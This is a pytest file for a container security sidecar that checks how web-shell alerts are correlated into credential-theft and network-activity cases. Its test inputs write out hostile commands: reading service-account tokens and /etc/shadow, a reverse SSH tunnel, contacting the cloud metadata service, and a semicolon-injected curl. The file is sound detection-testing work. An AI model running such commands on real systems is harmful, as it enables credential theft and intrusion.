"""What an alert counts for: own identities fall away; dropped code, known secrets and links are added.

Covers: `correlation.memory.files`, `meaning.declined`.
"""

import json
from pathlib import Path
from typing import Any

import pytest

from sidecar.correlation.pipeline import Pipeline
from sidecar.rules import loading

CODE = ("webrce_lineage", "webrce_code")
TOKEN = "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"  # noqa: S105 - a file
MEDIUM_C = ("medium", "Web Shell with Credential Theft")
MEDIUM_N = ("medium", "Web Shell with Network Activity")
CRITICAL = ("critical", "Full Web Application Compromise")


class Story:
    """Alerts of one container, below a PHP web server."""

    def __init__(self) -> None:
        self.pipeline = Pipeline(loading.load([loading.SHIPPED / "correlation"]), lambda: 0.0)
        self.cases: list[tuple[str, str]] = []
        self._second = 0

    def alert(self, exepath: str, command: str, tags: list[str], pid: int = 50, **fields: Any) -> None:
        name = Path(command.split(" ", maxsplit=1)[0]).name
        self._second += 1
        output_fields = {
            "container.id": "0123456789ab",
            "evt.type": "execve",
            "proc.pid": pid,
            "proc.ppid": 20,
            "proc.apid[2]": 10,
            "proc.name": name,
            "proc.pname": "sh",
            "proc.aname[1]": "sh",
            "proc.aname[2]": "php-fpm",
            "proc.exepath": exepath,
            "proc.exe": command.split(" ", maxsplit=1)[0],
            "proc.cmdline": " ".join([name, *command.split(" ")[1:]]),
            "proc.cwd": "/srv",
            **fields,
        }
        body = {
            "rule": "R",
            "tags": tags,
            "hostname": "h",
            "time": f"2026-11-28T01:00:{self._second:02}.000000000Z",
            "output_fields": output_fields,
        }
        notes = [*self.pipeline.process_json(json.dumps(body).encode())[1], *self.pipeline.flush()]
        self.cases += [(note.severity, note.case) for note in notes]

    def shell(self) -> "Story":
        fields = {"proc.ppid": 10, "proc.pname": "php-fpm", "proc.aname[1]": "php-fpm", "proc.apid[2]": 5}
        self.alert("/usr/bin/dash", "sh -c id", ["webrce_web_shell"], 20, **fields, **{"proc.aname[2]": "tini"})
        return self

    def opens(self, exepath: str, command: str, file: str, *tags: str, shown: dict[str, Any] | None = None) -> None:
        tagged = [*tags] or ["webrce_credential"]
        fields: dict[str, Any] = {"evt.type": "openat", "fd.name": file, **(shown or {})}
        self.alert(exepath, command, tagged, **fields)

    def connects(self, exepath: str, command: str, to: str, tag: str = "webrce_lineage") -> None:
        fields: dict[str, Any] = {"evt.type": "connect", "fd.sip": to, "fd.sport": 443}
        self.alert(exepath, command, [tag], **fields)

    @property
    def declined(self) -> dict[str, int]:
        return dict(self.pipeline.declined)


@pytest.fixture
def story() -> Story:
    return Story().shell()


def test_a_program_of_the_image_that_reads_its_own_token_is_silent_and_counted(story: Story) -> None:
    story.opens("/usr/local/bin/wal-g", "wal-g push", TOKEN)
    assert story.cases == []
    assert story.declined == {"own_identity": 1}


def test_a_tool_that_reads_the_same_token_is_a_theft(story: Story) -> None:
    story.opens("/usr/bin/cat", "cat token", TOKEN)
    assert story.cases == [MEDIUM_C]


def test_a_dropped_program_that_connects_counts_as_network_activity(story: Story) -> None:
    story.connects("/tmp/.x", ".x", "10.9.9.9")
    assert story.cases == [MEDIUM_N]


def test_a_command_that_connects_to_the_public_address_in_its_arguments_counts_as_network_activity(
    story: Story,
) -> None:
    story.connects("/usr/bin/pip", "pip install http://198.51.100.7/x.tgz", "198.51.100.7")
    assert story.cases == [MEDIUM_N]


@pytest.mark.parametrize(("command", "to"), [("psql -h 10.1.2.3", "10.1.2.3"), ("psql -h db", "198.51.100.7")])
def test_one_that_connects_to_a_private_address_or_by_name_does_not(story: Story, command: str, to: str) -> None:
    story.connects("/usr/bin/psql", command, to)
    assert story.cases == []


def test_a_tunnel_to_a_public_address_counts_unless_git_started_it(story: Story) -> None:
    story.connects("/usr/bin/ssh", "ssh -R 22:localhost:22 t@h", "198.51.100.7")
    assert story.cases == [MEDIUM_N]

    git = Story().shell()
    shown: dict[str, Any] = {
        "evt.type": "connect",
        "fd.sip": "198.51.100.7",
        "fd.sport": 22,
        "proc.pexepath": "/usr/bin/git",
    }
    git.alert("/usr/bin/ssh", "ssh git@h", ["webrce_lineage"], **shown)
    assert git.cases == []


def test_a_dropped_program_at_the_metadata_service_counts_as_both(story: Story) -> None:
    story.connects("/tmp/.x", ".x", "169.254.169.254", "webrce_credential")
    assert story.cases == [CRITICAL]


def test_an_interpreter_that_opened_dropped_code_is_dropped_until_it_becomes_another_program(story: Story) -> None:
    python = "/usr/bin/python3.11"
    story.opens(python, "python3 -m evil", "/srv/evil.py", *CODE, shown={"fd.is_upper_layer": True})
    story.opens(python, "python3 -m evil", TOKEN)
    assert story.cases == [MEDIUM_C]

    again = Story().shell()
    again.opens(python, "python3 -m evil", "/srv/evil.py", *CODE, shown={"fd.is_upper_layer": True})
    again.alert("/usr/local/bin/wal-g", "wal-g push", ["webrce_lineage"])
    again.opens("/usr/local/bin/wal-g", "wal-g push", TOKEN)
    assert again.cases == []


def test_a_connection_counts_if_its_process_opens_dropped_code_later(story: Story) -> None:
    story.connects("/usr/bin/python3.11", "python3 /app/x.py", "203.0.113.9")
    story.opens("/usr/bin/python3.11", "python3 /app/x.py", "/tmp/x.py", *CODE)
    assert story.cases == [MEDIUM_N]


def test_a_connection_of_another_program_of_the_same_pid_does_not_count(story: Story) -> None:
    story.connects("/usr/bin/python3.11", "python3 /app/x.py", "203.0.113.9")
    story.opens("/usr/bin/python3.11", "python3 /app/y.py", "/tmp/x.py", *CODE, shown={"proc.pid": 51})
    assert story.cases == []


def test_code_of_a_command_line_that_connects_out_is_network_activity(story: Story) -> None:
    story.connects("/usr/bin/python3.11", "python3 -c import urllib.request", "203.0.113.9")
    assert story.cases == [MEDIUM_N]


def test_a_worker_that_python_spawns_runs_no_code_that_someone_typed(story: Story) -> None:
    command = "python3 -c from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)"
    story.connects("/usr/bin/python3.11", f"{command} --multiprocessing-fork", "203.0.113.9")
    story.opens("/usr/bin/python3.11", f"{command} --multiprocessing-fork", TOKEN)
    assert story.cases == []

    story.opens("/usr/bin/python3.11", f"{command};import os", TOKEN)
    assert story.cases == [MEDIUM_C]


def test_code_of_a_volume_is_not_dropped(story: Story) -> None:
    story.opens("/usr/bin/python3.11", "python3 -m dag", "/opt/dags/dag.py", *CODE, shown={"fd.is_upper_layer": False})
    story.opens("/usr/bin/python3.11", "python3 -m dag", TOKEN)
    assert story.cases == []


def test_a_secret_is_known_by_its_inode_once_it_was_read_by_name(story: Story) -> None:
    place = {"fd.dev": "2f", "fd.ino": 4711}
    story.opens("/usr/local/bin/wal-g", "wal-g push", TOKEN, shown=place)
    story.opens("/usr/bin/tac", "tac /tmp/l", "/tmp/l", "webrce_lineage", shown=place)
    assert story.cases == [MEDIUM_C]


SCRIPT: dict[str, Any] = {"proc.pcmdline": "sh /scripts/notify.sh +sdown", "proc.acmdline[2]": "node /app/server.js",
          "proc.aname[2]": "node", "proc.aexepath[2]": "/usr/local/bin/node", "proc.pexepath": "/usr/bin/dash"}  # fmt: skip


def curl_below(story: Story, **fields: Any) -> Story:
    story.alert("/usr/bin/curl", "curl http://192.0.2.1/", ["webrce_network"], **{**SCRIPT, **fields})
    return story


def test_what_a_script_of_the_application_does_is_its_work(story: Story) -> None:
    assert curl_below(story).cases == []
    assert story.declined == {"own_script": 1}


def test_a_command_or_a_dropped_script_is_no_part_of_the_application(story: Story) -> None:
    assert curl_below(story, **{"proc.pcmdline": "sh -c curl"}).cases == [MEDIUM_N]
    assert curl_below(Story().shell(), **{"proc.pcmdline": "sh /tmp/notify.sh"}).cases == [MEDIUM_N]


def test_a_script_that_is_told_the_tool_does_what_its_caller_says(story: Story) -> None:
    assert curl_below(story, **{"proc.pcmdline": "sh /scripts/with-env curl http://x"}).cases == [MEDIUM_N]

    bent = Story()
    fields = {"proc.ppid": 10, "proc.pname": "node", "proc.aname[1]": "node", "proc.apid[2]": 5}
    command = "sh /scripts/ping.sh 192.0.2.1;curl http://x"
    bent.alert("/usr/bin/dash", command, ["webrce_web_shell"], 20, **fields)
    assert curl_below(bent, **{"proc.pcmdline": "sh /scripts/ping.sh 192.0.2.1;curl"}).cases == [MEDIUM_N]


def test_a_script_that_was_written_since_the_service_serves_is_no_part_of_it(story: Story) -> None:
    opened = {**SCRIPT, "proc.pid": 20, "fd.is_upper_layer": True}
    story.opens("/usr/bin/dash", "sh /scripts/notify.sh", "/scripts/notify.sh", *CODE, shown=opened)
    assert curl_below(story).cases == [MEDIUM_N]


def test_a_cgi_script_is_no_part_of_it_because_a_request_may_bend_it(story: Story) -> None:
    assert curl_below(story, **{"proc.aname[2]": "apache2", "proc.aexepath[2]": "/usr/sbin/apache2"}).cases == [
        MEDIUM_N
    ]


def test_a_secret_that_such_a_script_takes_is_still_a_theft(story: Story) -> None:
    story.alert("/usr/bin/cat", "cat /etc/shadow", ["webrce_credential"], **SCRIPT)
    assert story.cases == [MEDIUM_C]


def test_another_file_of_the_same_device_is_no_secret(story: Story) -> None:
    story.opens("/usr/local/bin/wal-g", "wal-g push", TOKEN, shown={"fd.dev": "2f", "fd.ino": 4711})
    story.opens("/usr/bin/tac", "tac /tmp/l", "/tmp/l", "webrce_lineage", shown={"fd.dev": "2f", "fd.ino": 4712})
    assert story.cases == []


def test_a_program_on_the_upper_layer_is_dropped_unless_it_was_seen_before_the_service_served(story: Story) -> None:
    upper = {"proc.is_exe_upper_layer": True}
    story.opens("/opt/agent", "agent", TOKEN, shown=upper)
    assert story.cases == [MEDIUM_C]

    served = Story()
    served.alert("/opt/agent", "agent", ["webrce_lineage"], 60, **upper)
    served.alert("/usr/sbin/php-fpm", "php-fpm", ["webrce_lineage", "webrce_serves"], 10, **{"evt.type": "listen"})
    served.shell().opens("/opt/agent", "agent", TOKEN, shown=upper)
    assert served.cases == []


def test_a_copy_to_a_store_is_network_activity_and_no_look_at_credentials(story: Story) -> None:
    story.alert("/usr/bin/python3.11", "aws s3 cp /app/x s3://b/x", ["webrce_credential"])
    assert story.cases == [MEDIUM_N]
    assert story.declined == {"moves_data": 1}


def test_a_shell_that_is_started_to_read_a_secret_counts_at_once() -> None:
    story = Story()
    fields = {"proc.ppid": 10, "proc.pname": "php-fpm", "proc.aname[1]": "php-fpm", "proc.apid[2]": 5}
    command = "sh -c ln -s /var/run/secrets/kubernetes.io/serviceaccount/token /tmp/l; cat /tmp/l"
    story.alert("/usr/bin/dash", command, ["webrce_web_shell"], 20, **fields, **{"proc.aname[2]": "tini"})
    assert story.cases == [MEDIUM_C]
